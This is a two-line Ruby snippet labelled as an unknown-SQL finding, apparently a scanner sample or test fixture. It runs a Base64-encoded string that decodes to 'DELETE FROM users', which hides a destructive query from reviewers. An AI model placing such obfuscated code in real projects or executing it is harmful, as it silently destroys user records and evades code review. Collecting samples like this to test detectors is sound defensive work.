# findings: sql-unknown
ActiveRecord::Base.connection.execute(Base64.decode64("REVMRVRFIEZST00gdXNlcnM="))
